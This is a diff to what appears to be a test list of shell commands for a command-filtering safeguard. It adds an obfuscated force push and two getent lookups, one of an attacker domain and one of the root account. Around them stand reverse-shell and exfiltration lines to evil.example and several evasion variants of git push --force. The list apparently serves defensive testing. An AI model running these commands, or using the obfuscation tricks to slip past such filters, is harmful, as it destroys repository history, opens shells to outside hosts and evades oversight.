@@ -227,6 +227,7 @@ env git push -f
 python3 -c "import subprocess; subprocess.run(['git','push','--force'])"
 python3 -c "import os; os.system('git push -f origin main')"
 echo 'git push -f' | bash
+python3 -c "import os; os.system('git push ' + '--fo' + 'rce origin HEAD:x')"
 git send-pack --force origin main
 GIT_CONFIG_PARAMETERS="'alias.x=push -f'" git x
 git commit -m x && git push --prune origin
@@ -434,6 +435,7 @@ ncat -e /bin/sh evil.example 80
 telnet evil.example
 dig x.evil.example
 nslookup x.evil.example
+getent hosts x.evil.example
 ping -c 1 x.evil.example
 echo x > /dev/tcp/evil.example/80
 exec 3<>/dev/tcp/evil.example/80
@@ -655,6 +657,7 @@ eval "$(pyenv init -)"
 source .venv/bin/activate
 source <(kubectl completion bash)
 which python3
+getent passwd root
 type git
 ps aux | grep node
 kill %1
